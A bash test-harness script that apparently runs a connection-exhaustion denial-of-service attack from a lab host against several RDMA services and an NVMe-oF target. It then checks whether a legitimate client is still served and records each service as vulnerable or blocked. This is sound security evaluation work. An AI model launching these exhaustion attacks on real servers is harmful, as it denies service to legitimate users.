# SPDX-License-Identifier: MIT
# ReDMArk A4 (exhaust --remote): the attacker on host 3 opens connections to
# the victim's server on host 1 and never authenticates or completes them;
# while it holds them, a legitimate client (host 2, or the tool's probe)
# tries to be served. The server alone is started (no victim_start): the
# attacker must come first. QPs the service spent are read from rdma(8)'s
# summary for rxe1.
#   pingpong, send_bw, write_bw: one client per run, taken over TCP; the
#     attacker holds the slot with one silent connection.
#   rping, ucmatose: one rdma_cm connection request with no QP behind it,
#     never completed; the server answers it with a QP of its own.
#   naive: the server with --clients 8, 8 unauthenticated exchanges.
#   rdmasec: 64 TCP connections that never start TLS.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"

# QPs on rxe1 now, QP1 aside.
_exh_qps() {
	echo $(($(rdma res show | sed -n 's/^[0-9]*: rxe1: .* qp \([0-9]*\) .*/\1/p') - 1))
}

# _exh_wait FILE REGEX: up to 12 s for a line, while the attacker runs.
_exh_wait() {
	for _ in $(seq 1 120); do
		grep -Eq "$2" "$1" 2>/dev/null && return 0
		kill -0 "$EXH_PID" 2>/dev/null || return 1
		sleep 0.1
	done
	return 1
}

# _exh_field JSONFILE KEY: a number or string member of the attacker's JSON.
_exh_field() {
	sed -n "s/.*\"$2\":\"\\{0,1\\}\\([^\",]*\\).*/\\1/p" "$1"
}

# _exh_start_server VICTIM: the victim's server on host 1 (naive with 8 client slots), waits for its port.
_exh_start_server() {
	local cmd
	[ "$1" = nvmf ] && { victim_nvmf_target; return; }
	# shellcheck disable=SC2034 # victim_stop and _victim_wait_listen read these
	VICTIM=$1
	VICTIM_PORT=$(_victim_port "$1") || return 1
	VICTIM_SERVER_LOG=$CELL/victim-server.log VICTIM_CLIENT_LOG=$CELL/victim-client.log
	# shellcheck disable=SC2034
	VICTIM_SERVER_PID='' VICTIM_CLIENT_PID='' VICTIM_TCPDUMP_PID=''
	if [ "$1" = rdmasec ]; then
		# shellcheck disable=SC2034 # _victim_cmd reads them
		VICTIM_PKI=${MATRIX_PKI:-$CELL/pki} VICTIM_AUDIT=$CELL/audit.jsonl
		[ -e "$VICTIM_PKI/ca.pem" ] || "$BIN/keygen/rdmasec-keygen" "$VICTIM_PKI" >/dev/null || return 1
	fi
	if [ "$1" = naive ]; then
		cmd="$BIN/attack/rdmasec-naive-victim server -d rxe1 -g $(_gid 1) --clients 8 -t $VICTIM_SECONDS"
	else
		cmd=$(_victim_cmd "$1" server) || return 1
	fi
	# shellcheck disable=SC2086 # a word list without globs
	fabric on 1 timeout "$VICTIM_SECONDS" stdbuf -oL -eL $cmd >"$VICTIM_SERVER_LOG" 2>&1 &
	# shellcheck disable=SC2034
	VICTIM_SERVER_PID=$!
	_victim_wait_listen "$VICTIM_PORT"
}

# _exh_attack ARGS...: exhaust --remote from host 3 in the background (EXH_PID), output in $CELL/atk.*.
_exh_attack() {
	fabric on 3 "$ATK" exhaust --remote --dst "$VICTIM_SERVER_IP" --port "$VICTIM_PORT" --source 10.77.0.3 \
		"$@" --json >"$CELL/atk.json" 2>"$CELL/atk.err" &
	EXH_PID=$!
}

# _exh_legit_client VICTIM: the victim's own client on host 2, at most 6 s; sets LEGIT_RC.
_exh_legit_client() {
	local cmd
	cmd=$(_victim_cmd "$1" client) || return 1
	# shellcheck disable=SC2086
	fabric on 2 timeout 6 $cmd >"$VICTIM_CLIENT_LOG" 2>&1
	LEGIT_RC=$?
}

_exh_client_said() {
	local l
	l=$(grep -E -m1 'Couldn.t|[Ff]ail|error|REJECTED|refused|unable|Unable' "$VICTIM_CLIENT_LOG" 2>/dev/null) ||
		l=$(tail -n 1 "$VICTIM_CLIENT_LOG" 2>/dev/null)
	[ -n "$l" ] || l="no output"
	printf '%s' "${l:0:80}"
}

cell_exhaust() {
	local v=$1 before held ev n
	if ! _exh_start_server "$v"; then
		matrix_result exhaust "$v" error "" "server did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"
		victim_stop
		return
	fi
	sleep 0.5
	before=$(_exh_qps)
	case "$v" in
	pingpong | send_bw | write_bw)
		_exh_attack --proto tcp --connections 1 --hold 9
		_exh_wait "$CELL/atk.err" holding
		held=$(_exh_qps)
		_exh_legit_client "$v"
		wait "$EXH_PID"
		victim_stop
		ev="1 silent TCP connection holds the only client slot: legit client rc $LEGIT_RC ($(_exh_client_said)); service QPs $before->$held"
		if [ "$(_exh_field "$CELL/atk.json" connected)" = 1 ] && [ "$LEGIT_RC" != 0 ]; then
			matrix_result exhaust "$v" succeeded "" "$ev"
		elif [ "$LEGIT_RC" = 0 ]; then
			matrix_result exhaust "$v" blocked "served a second client" "$ev"
		else
			matrix_result exhaust "$v" error "" "attacker did not connect: $(tail -n 1 "$CELL/atk.err")"
		fi
		;;
	rping | ucmatose)
		_exh_attack --proto rdma_cm --connections 1 --timeout-ms 2000 --hold 7
		_exh_wait "$CELL/atk.err" 'answered with a QP'
		held=$(_exh_qps)
		_exh_legit_client "$v"
		wait "$EXH_PID"
		victim_stop
		n=$(_exh_field "$CELL/atk.json" service_qps_seen)
		ev="1 half-open rdma_cm request: server replied with QP $(grep -o '"service_qpns":\["0x[0-9a-f]*' "$CELL/atk.json" | grep -o '0x.*'), QPs $before->$held; [h1] $(victim_grep "$VICTIM_SERVER_LOG" 'failed|failing' | cut -c1-40); legit rc $LEGIT_RC: $(_exh_client_said)"
		if [ "${n:-0}" -ge 1 ] && [ "$LEGIT_RC" != 0 ]; then
			matrix_result exhaust "$v" succeeded "" "$ev"
		elif [ "$LEGIT_RC" = 0 ]; then
			matrix_result exhaust "$v" blocked "served a client despite the half-open request" "$ev"
		else
			matrix_result exhaust "$v" error "" "no reply to the half-open request: $(tail -n 1 "$CELL/atk.err")"
		fi
		;;
	nvmf)
		# The kernel host on host 2 connects while the request is held.
		_exh_attack --proto rdma_cm --connections 1 --timeout-ms 2000 --hold 7
		_exh_wait "$CELL/atk.err" 'answered with a QP'
		held=$(_exh_qps)
		NVMF_HOST_UP=1
		fabric on 2 timeout 30 fabric nvmf-connect 2 1 --ctrl-loss-tmo 5 >"$CELL/nvmf-connect.txt" 2>&1
		LEGIT_RC=$?
		wait "$EXH_PID"
		victim_stop
		n=$(_exh_field "$CELL/atk.json" service_qps_seen)
		ev="1 half-open rdma_cm request (zeroed private data): $(_exh_field "$CELL/atk.json" refused_by_service) refused, ${n:-0} answered with a QP ($(grep -o '"service_qpns":\["0x[0-9a-f]*' "$CELL/atk.json" | grep -o '0x.*')), rxe1 QPs $before->$held; legit nvmf-connect rc $LEGIT_RC: $(tail -n 1 "$CELL/nvmf-connect.txt" | cut -c1-40)"
		if [ "${n:-0}" -ge 1 ] && [ "$LEGIT_RC" != 0 ]; then
			matrix_result exhaust "$v" succeeded "" "$ev"
		elif [ "$LEGIT_RC" = 0 ]; then
			matrix_result exhaust "$v" blocked \
				"one half-open request denies nothing: nvmet-rdma takes zeroed private data as an admin queue request and spends a queue and QP on it, but serves further hosts" \
				"$ev"
		else
			matrix_result exhaust "$v" error "" "$ev"
		fi
		;;
	naive)
		_exh_attack --proto naive --connections 8 --timeout-ms 2000 --hold 3
		_exh_wait "$CELL/atk.err" holding
		held=$(_exh_qps)
		wait "$EXH_PID"
		victim_stop
		n=$(_exh_field "$CELL/atk.json" service_qps_seen)
		ev="8 unauthenticated exchanges: service QPs $before->$held, $n QPNs told; legit probe $(_exh_field "$CELL/atk.json" legit); [h1] $(victim_grep "$VICTIM_SERVER_LOG" 'refused a client' || echo 'no refusal logged')"
		if [ "${n:-0}" = 8 ] || [ "$(_exh_field "$CELL/atk.json" legit)" = refused ]; then
			matrix_result exhaust "$v" succeeded "" "$ev"
		else
			matrix_result exhaust "$v" error "" "$ev"
		fi
		;;
	rdmasec)
		_exh_attack --proto rdmasec --connections 64 --no-probe --hold 3
		_exh_wait "$CELL/atk.err" holding
		held=$(_exh_qps)
		# The legitimate client while the 64 are held.
		fabric on 2 "$ATK" exhaust --remote --dst "$VICTIM_SERVER_IP" --port "$VICTIM_PORT" --source "$VICTIM_CLIENT_IP" \
			--proto rdmasec --connections 1 --certs "$VICTIM_PKI" --hold 0 --json >"$CELL/legit.json" 2>"$CELL/legit.err"
		wait "$EXH_PID"
		victim_stop # the server logs its counters as it shuts down
		local counters
		counters=$(grep -m1 -o 'event=counters .*qps_created=[0-9]*' "$VICTIM_SERVER_LOG" | grep -o 'accepted=[0-9]* established=[0-9]* qps_created=[0-9]*')
		ev="64 connections without TLS: rxe1 QPs $before->$held while held ($(_exh_field "$CELL/atk.json" connected) accepted); legit client $(_exh_field "$CELL/legit.json" legit); [h1] ${counters:-no counters}"
		if [ "$(_exh_field "$CELL/atk.json" connected)" = 64 ] && [ "$held" = "$before" ] &&
			[ "$(_exh_field "$CELL/legit.json" legit)" = served ]; then
			matrix_result exhaust "$v" blocked "no RDMA resources before TLS auth; max_clients and handshake deadline" "$ev"
		elif [ "$(_exh_field "$CELL/legit.json" legit)" = refused ]; then
			matrix_result exhaust "$v" succeeded "" "$ev"
		else
			matrix_result exhaust "$v" error "" "$ev"
		fi
		;;
	*)
		victim_stop
		matrix_result exhaust "$v" error "" "unknown victim"
		;;
	esac
}
